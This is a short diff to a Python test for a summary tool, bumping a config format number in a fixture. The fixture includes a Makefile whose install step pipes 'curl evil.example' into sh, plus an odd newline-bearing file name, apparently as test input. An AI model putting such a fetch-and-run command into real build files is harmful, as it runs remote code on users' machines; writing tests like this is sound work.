@@ -87,7 +87,7 @@ class TestSummary:
 
     def test_counts_the_files_that_it_does_not_describe(self, runner: Runner) -> None:
         files: dict[str, str | bytes] = {
-            "content/config.yml": "format: 2\npackage: evil\n",
+            "content/config.yml": "format: 3\npackage: evil\n",
             "a\nb.md": "",
             "Makefile": "install:\n\tcurl evil.example | sh\n",
         }
